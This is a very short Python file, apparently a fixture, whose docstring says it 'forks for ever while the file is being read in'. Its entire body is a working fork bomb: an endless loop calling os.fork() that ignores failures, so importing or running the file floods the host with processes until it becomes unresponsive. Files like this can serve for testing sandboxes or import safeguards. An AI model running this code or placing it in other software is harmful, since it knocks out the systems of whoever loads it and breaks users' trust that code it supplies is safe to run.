"""Forks for ever while the file is being read in."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
